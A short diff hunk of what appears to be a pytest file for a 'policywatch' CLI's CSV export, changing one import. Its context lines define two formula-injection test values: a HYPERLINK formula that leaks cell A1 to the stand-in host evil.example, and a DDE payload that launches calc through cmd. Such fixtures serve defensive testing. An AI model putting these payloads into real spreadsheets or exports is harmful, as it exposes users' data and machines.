@@ -11,7 +11,7 @@ import pytest
 
 from policywatch.cli import main
 from policywatch.commands.export import csv_cell
-from storage.recorder import Page, record_page
+from policywatch.flow import Page, record_page
 
 TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
 NUMBER = "+1+cmd|'/Ccalc'!A0"  # no spaces: the normalizer folds spaces out of a 文号
